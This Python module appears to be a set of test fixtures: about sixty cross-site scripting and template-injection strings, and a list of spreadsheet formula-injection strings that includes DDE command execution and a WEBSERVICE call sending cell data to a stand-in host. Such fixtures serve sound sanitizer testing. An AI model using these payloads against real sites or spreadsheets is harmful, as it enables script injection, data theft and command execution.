"""Sixty texts that try to become markup, an address, a style or a template; each would set window.hit if it ran. And formulas."""

_RUN = "window.hit=1"
PAYLOADS = (
    f"<script>{_RUN}</script>", f"<SCRIPT SRC=//x.test/a.js>{_RUN}</SCRIPT>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>", f"<img src=x onerror=\"{_RUN}\"/>", f"<img/src=x/onerror={_RUN}//>",
    f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><set onbegin={_RUN} attributeName=x>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\"></svg>",
    f"<svg><a xlink:href=\"javascript:{_RUN}\"><text>x</text></a></svg>", f"<svg><foreignObject><img src=x onerror={_RUN}>",
    f"<math><mi xlink:href=\"javascript:{_RUN}\">x</mi></math>", f"<body onload={_RUN}>", f"<iframe src=javascript:{_RUN}>",
    f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\">", f"<object data=javascript:{_RUN}>", f"<embed src=javascript:{_RUN}>",
    f"<a href=\"javascript:{_RUN}\">x</a>", f"<a href=' javascript:{_RUN}'>x</a>", f"<a href=\"java\tscript:{_RUN}\">x</a>",
    f"<details open ontoggle={_RUN}>", f"<video><source onerror={_RUN}>", f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>",
    f"<button onclick={_RUN} autofocus>x</button>", f"<form action=javascript:{_RUN}><input type=submit>",
    f"<marquee onstart={_RUN}>x</marquee>", f"<div onpointerover={_RUN} style=position:fixed;inset:0>x</div>",
    f"<div style=\"background:url(javascript:{_RUN})\">x</div>", "<style>@import 'http://x.test/a.css';</style>",
    "<style>*{display:none}</style>", "<link rel=stylesheet href=//x.test/a.css>", "<base href=//x.test/>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{_RUN}\">", "<meta http-equiv=refresh content=0;url=//x.test/>",
    f"\"><script>{_RUN}</script>", f"'><script>{_RUN}</script>", f"\" onmouseover=\"{_RUN}", f"' onfocus='{_RUN}' autofocus='",
    f"</title><script>{_RUN}</script>", f"</style><script>{_RUN}</script>", f"</summary></details><script>{_RUN}</script>",
    f"</blockquote><img src=x onerror={_RUN}>", f"--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>",
    f"<![CDATA[<script>{_RUN}</script>]]>", f"<!--<script>{_RUN}</script>-->", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\ufeff<script>{_RUN}</script>", f"<\u200bscript>{_RUN}</script>", "{{ 7*7 }}{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}", f"javascript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
)  # fmt: skip

# Texts that a spreadsheet runs: by sign, behind what it drops (blanks, marks, a line's end), in other widths; and text in full.
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://x.test\",\"click\")", "=WEBSERVICE(\"http://x.test/\"&A1)", "=IMPORTXML(\"http://x.test\",\"//a\")",
    "=IMPORTDATA(\"http://x.test\")", "=IMAGE(\"http://x.test\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=INDIRECT(\"A1\")",
    "=1+1;1", "=\"a\"&\"b\"", "=A1", "=-1", "=+1", "+@SUM(1+1)", "--1", "+-1", "-A1", "+A1*2", "@A1",
    " =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x00=1+1", "\xa0=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "%0A=1+1", "\"=1+1", "'=1+1", "a\",=1+1,\"b", "a\n=1+1", "-2.1-2.1",
)  # fmt: skip
